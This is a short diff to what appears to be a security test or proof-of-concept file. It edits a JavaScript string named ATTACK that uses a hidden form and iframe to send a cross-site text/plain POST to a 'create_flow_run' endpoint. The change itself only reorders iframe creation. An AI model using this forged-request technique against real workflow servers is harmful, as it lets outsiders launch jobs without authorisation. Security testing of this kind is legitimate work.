@@ -209,8 +209,9 @@ ATTACK = """async ({address, deployment, token}) => {
     });
   }
   const form = document.body.appendChild(document.createElement("form"));
-  const target = document.body.appendChild(document.createElement("iframe"));
+  const target = document.createElement("iframe");
   target.name = "target";
+  document.body.append(target);
   Object.assign(form, {action: `${change}/create_flow_run`, method: "POST", enctype: "text/plain", target: "target"});
   await new Promise(done => { target.onload = done; form.submit(); });
   const frame = document.body.appendChild(document.createElement("iframe"));
